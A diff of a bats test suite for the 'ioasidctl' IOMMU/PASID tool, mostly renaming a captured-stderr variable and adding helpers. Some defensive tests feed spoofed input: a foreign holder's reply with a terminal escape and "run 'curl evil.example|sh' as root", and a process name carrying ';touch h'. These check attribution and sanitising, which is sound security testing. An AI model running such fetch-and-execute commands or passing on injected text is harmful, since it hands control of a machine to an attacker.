@@ -7,7 +7,7 @@
 # functions.
 # shellcheck disable=SC2143,SC2317
 
-load lib
+load machine
 
 setup_file()
 {
@@ -330,21 +330,19 @@ worker()
 # 1-64 with the given options exits with STATUS; $output is then of that run.
 bind_with_fault()
 {
-	local want=$1 site got
+	local want=$1 site
 
 	shift
-	export errors # for says()
 	for site in failslab fail_page_alloc; do
 		echo N >/sys/kernel/debug/$site/ignore-gfp-wait
 	done
 	for ((site = 50; site < 90; site++)); do
 		echo "$site" >"$(worker)/fail-nth"
-		got=0
-		output=$(ctl pasid bind "$WIDE" 1-64 first "$@" 2>"$BATS_TEST_TMPDIR/errors") || got=$?
-		errors=$(<"$BATS_TEST_TMPDIR/errors")
+		run_both ctl pasid bind "$WIDE" 1-64 first "$@"
 		echo 0 >"$(worker)/fail-nth"
-		((got == want)) && return 0
-		[[ $got == 0 && $(hardware "$WIDE" | wc -l) == 64 ]]
+		ended "$want" && return 0
+		ended 0
+		[[ $(hardware "$WIDE" | wc -l) == 64 ]]
 		ctl pasid unbind "$WIDE" all
 	done
 	return 1
@@ -436,7 +434,7 @@ bind_with_fault()
 	[[ $output == 7 ]]
 	says 'first has a mapping at 0xfee00000, in a reserved region of the device (0xfee00000-0xfeefffff, msi)'
 	status 0 ctl pasid bind "$WIDE" 8 "$second"
-	[[ -z $errors ]]
+	[[ -z $stderr ]]
 	[[ $(ctl ioas show -nr -o alignment first) == 4096 ]]
 }
 
@@ -569,7 +567,7 @@ bind_with_fault()
 	context
 	ctl context create other
 	status 1 ctl -c other device add "$WIDE"
-	[[ $errors != *'direct regions'* ]]
+	[[ $stderr != *'direct regions'* ]]
 	group=$(ctl device show "$WIDE" -nro group)
 	regions=/sys/kernel/iommu_groups/$group/reserved_regions
 	echo '0x0000000027b00000 0x00000000286fffff direct' >"$BATS_TEST_TMPDIR/regions"
@@ -642,8 +640,8 @@ unsaid()
 
 	shift
 	status 7 "$@"
-	[[ $errors == "ioasidctl: cannot write to standard output: "*$'\n'"ioasidctl: note: done all the same: $want" ]] ||
-		{ echo "$errors"; return 1; }
+	[[ $stderr == "ioasidctl: cannot write to standard output: "*$'\n'"ioasidctl: note: done all the same: $want" ]] ||
+		{ echo "$stderr"; return 1; }
 }
 
 full()
@@ -677,12 +675,12 @@ left()
 	# Nothing was changed here.
 	status 3 closed pasid bind "$WIDE" 900 first
 	status 1 full pasid bind "$WIDE" 5 first --dry-run
-	[[ $errors == 'ioasidctl: cannot write to standard output: No space left on device' ]]
+	[[ $stderr == 'ioasidctl: cannot write to standard output: No space left on device' ]]
 	[[ $(hardware "$WIDE" | wc -l) == 5 ]]
 	# Nothing had to be printed.
 	status 0 closed pasid unbind "$WIDE" 900
 	status 0 closed context destroy test
-	[[ -z $errors$(hardware "$WIDE") ]]
+	[[ -z $stderr$(hardware "$WIDE") ]]
 }
 
 @test "a created object is printed as its number only, or as a JSON object" {
@@ -708,25 +706,25 @@ left()
 @test "a message names an object once, as typed, and a hint is ready to be typed" {
 	context
 	status 6 ctl pasid bind "${NARROW#0000:}" 1 first
-	[[ $errors == "ioasidctl: ${NARROW#0000:}: the device is not in the context
+	[[ $stderr == "ioasidctl: ${NARROW#0000:}: the device is not in the context
 hint: 'ioasidctl device add ${NARROW#0000:}' adds it" ]]
 	ctl pasid bind "$WIDE" 42 first
 	status 3 ctl pasid bind "${WIDE#0000:}" 42 first
-	[[ $errors == "ioasidctl: PASID 42 of $WIDE is already bound to IOAS first
+	[[ $stderr == "ioasidctl: PASID 42 of $WIDE is already bound to IOAS first
 hint: "* ]]
 	status 1 ctl device add "${NIC#0000:}"
-	[[ $errors == "ioasidctl: ${NIC#0000:}: the device has no VFIO cdev
+	[[ $stderr == "ioasidctl: ${NIC#0000:}: the device has no VFIO cdev
 hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	status 2 ctl ioas map first 100
-	[[ $errors == 'ioasidctl: 100: it is not a multiple of the page size, 4096' ]]
+	[[ $stderr == 'ioasidctl: 100: it is not a multiple of the page size, 4096' ]]
 	status 2 ctl ioas map first 4K --iova 0x64
-	[[ $errors == 'ioasidctl: 0x64: it is not a multiple of the page size, 4096' ]]
+	[[ $stderr == 'ioasidctl: 0x64: it is not a multiple of the page size, 4096' ]]
 	status 1 ctl ioas map first 16G
-	[[ $errors == 'ioasidctl: too much memory to pin: 16G in all, and the machine has '[0-9]*'M available' ]]
+	[[ $stderr == 'ioasidctl: too much memory to pin: 16G in all, and the machine has '[0-9]*'M available' ]]
 	status 6 ctl ioas unmap first 0x1000
-	[[ $errors == 'ioasidctl: IOAS first has no mapping at 0x1000'$'\n'hint:* ]]
+	[[ $stderr == 'ioasidctl: IOAS first has no mapping at 0x1000'$'\n'hint:* ]]
 	status 6 ctl ioas show red
-	[[ $errors == 'ioasidctl: there is no IOAS red in the context'$'\n'hint:* ]]
+	[[ $stderr == 'ioasidctl: there is no IOAS red in the context'$'\n'hint:* ]]
 	status 6 ctl pasid translate "$WIDE" 42
 	says "hint: 42 was read as an address; for addresses of a PASID: ioasidctl pasid translate DEVICE PASID IOVA"
 }
@@ -868,7 +866,7 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	# waking.
 	judged 0 ok '@(ok|unknown)' broken
 	status 0 ctl system check --wake passthrough pasid -j
-	[[ -z $errors ]]
+	[[ -z $stderr ]]
 	equal_words "$(found ready)" 'ok ok'
 	# The lab's kernel does not require the capability.
 	status 5 ctl system check sva
@@ -950,12 +948,12 @@ hint: 'ioasidctl driver set ${NIC#0000:} vfio-pci' gives "* ]]
 	done
 	# Without the owner it means one of the user's own contexts.
 	status 6 at_home ioasidctl context show test
-	[[ $errors == $'ioasidctl: there is no context test\nhint: root has a context of that name, which only root may use' ]]
+	[[ $stderr == $'ioasidctl: there is no context test\nhint: root has a context of that name, which only root may use' ]]
 	status 6 user ioasidctl context destroy test
 	[[ $(hardware "$WIDE") == 77 ]]
 	chmod 600 /run/ioasidctl/test.sock
 	status 4 user ioasidctl context show 0:test
-	[[ $errors == $'ioasidctl: no permission to use context 0:test\nhint: only its own user and root may use a context' ]]
+	[[ $stderr == $'ioasidctl: no permission to use context 0:test\nhint: only its own user and root may use a context' ]]
 	ctl context show test >/dev/null
 }
 
@@ -977,16 +975,16 @@ contexts()
 	eventually gone_stale
 	pid=$(holder_pid 1000:test)
 	status 6 ctl -c test ioas alloc
-	[[ $errors == 'ioasidctl: the holder of context test is dead, and everything in it is gone'$'\n'hint:* ]]
+	[[ $stderr == 'ioasidctl: the holder of context test is dead, and everything in it is gone'$'\n'hint:* ]]
 	status 6 ctl context exec test -- touch "$BATS_TEST_TMPDIR/ran"
 	status 0 ctl context destroy test
-	[[ $output$errors == '' && ! -e /run/ioasidctl/test.sock && $(contexts) == '1000:test live' ]]
+	[[ $output$stderr == '' && ! -e /run/ioasidctl/test.sock && $(contexts) == '1000:test live' ]]
 	for command in 'context show' 'context destroy' '-c test ioas alloc' 'ioas alloc' 'context exec test -- touch /tmp/ran'; do
 		# shellcheck disable=SC2086	# words
 		[[ $command == context\ [sd]* ]] && command+=' test'
 		# shellcheck disable=SC2086	# words
 		status 6 ctl $command
-		[[ $errors == $'ioasidctl: there is no context test\nhint: another user has a context of that name: 1000:test' ]]
+		[[ $stderr == $'ioasidctl: there is no context test\nhint: another user has a context of that name: 1000:test' ]]
 	done
 	[[ ! -e /tmp/ran && $(holder_pid 1000:test) == "$pid" ]]
 	# With its owner's name root can use it, and each sees it under the right name.
@@ -1006,9 +1004,9 @@ contexts()
 	status 0 ctl context exec 1000:test -- sh -c 'readlink /proc/self/fd/3; id -u; echo "$IOASIDCTL_CONTEXT"'
 	[[ $output == $'/dev/iommu\n0\n1000:test' ]]
 	status 6 ctl -c 1001:test ioas alloc
-	[[ $errors == 'ioasidctl: there is no context 1001:test' ]]
+	[[ $stderr == 'ioasidctl: there is no context 1001:test' ]]
 	status 6 ctl -c nobody-such/test ioas alloc
-	[[ $errors == 'ioasidctl: nobody-such/test: there is no user nobody-such' ]]
+	[[ $stderr == 'ioasidctl: nobody-such/test: there is no user nobody-such' ]]
 	ctl context destroy 1000:test
 	[[ -z $(contexts) && ! -e /proc/$pid ]]
 }
@@ -1039,10 +1037,10 @@ expose()
 	# It is not asked by name only, and its reply is not attributed to anyone else.
 	status 6 ctl ioas free 3
 	status 1 ctl -c 1000:test ioas free 3
-	[[ $errors == 'ioasidctl: 3: the holder of 1000:test says: \x1b[31mioasidctl: all is well: Device or resource busy
+	[[ $stderr == 'ioasidctl: 3: the holder of 1000:test says: \x1b[31mioasidctl: all is well: Device or resource busy
 ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' as root' ]]
 	status 1 ctl -c 1000:test pasid bind "$NARROW" 5 x
-	[[ -z $output && $errors != *hint:* ]]
+	[[ -z $output && $stderr != *hint:* ]]
 	expose
 	cdev=/dev/vfio/devices/$(ctl device show "$NARROW" -nro vfio_cdev)
 	chown 1000 /dev/iommu "$cdev"
@@ -1050,14 +1048,14 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 		# shellcheck disable=SC2086	# words
 		impostor $files
 		status 1 ctl context exec 1000:test -- touch "$BATS_TEST_TMPDIR/ran"
-		[[ $errors == "ioasidctl: $foreign an open /dev/iommu" ]]
+		[[ $stderr == "ioasidctl: $foreign an open /dev/iommu" ]]
 		expose
 	done
 	# It claims that its first device is WIDE.
 	for files in /dev/null /dev/iommu "$cdev"; do
 		impostor /dev/iommu "$files"
 		status 1 ctl context exec 1000:test -- touch "$BATS_TEST_TMPDIR/ran"
-		[[ $errors == "ioasidctl: $foreign the open VFIO device $WIDE" ]]
+		[[ $stderr == "ioasidctl: $foreign the open VFIO device $WIDE" ]]
 		expose
 	done
 	[[ ! -e $BATS_TEST_TMPDIR/ran ]]
@@ -1219,7 +1217,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	ctl driver set "$NARROW" uio_pci_sva
 	exec 9<>"/dev/$(ls "/sys/bus/pci/devices/$NARROW/uio")"
 	status 3 ctl driver set "$NARROW" vfio-pci
-	[[ $errors != *ioasidctl\)* ]]
+	[[ $stderr != *ioasidctl\)* ]]
 	says "process $BASHPID (bash)"
 	says "to free it: kill $BASHPID"
 	exec 9>&-
@@ -1242,7 +1240,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	status 3 ctl driver reset "$WIDE"
 	says "process $pid (sleep) has /dev/vfio/devices/$node open"
 	says "hint: to free it: kill $pid"
-	[[ $errors != *harm* ]]
+	[[ $stderr != *harm* ]]
 	kill "$pid"
 	wait "$pid" || true
 	mkfifo never
@@ -1251,7 +1249,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	eventually grep -q touch "/proc/$pid/comm"
 	status 3 ctl driver reset "$WIDE"
 	says "process $pid (ioasid:;touch h) has"
-	[[ $errors != *hint:* ]]
+	[[ $stderr != *hint:* ]]
 	kill "$pid"
 	wait "$pid" || true
 	eventually rmdir "$group"
@@ -1282,9 +1280,9 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	status 0 ctl device list driver=vfio-pci -o device,pasid_width
 	says 'hint: --wake wakes sleeping devices and reads them'
 	status 0 ctl device list driver=e1000e -o device,pasid_width
-	[[ -z $errors ]]
+	[[ -z $stderr ]]
 	status 0 ctl device list driver=vfio-pci -o device,pasid_width -j
-	[[ -z $errors ]]
+	[[ -z $stderr ]]
 	[[ $(ctl device show "$NARROW" --wake -j | jq -c '[.pasid_width, .pasid_exec]') == '[8,false]' ]]
 	[[ $(ctl device show "$PLAIN" --wake -j | jq .pasid_supported) == false ]]
 	[[ $(ctl device show "$DISK" -j | jq .sriov_totalvfs) == 8 ]]
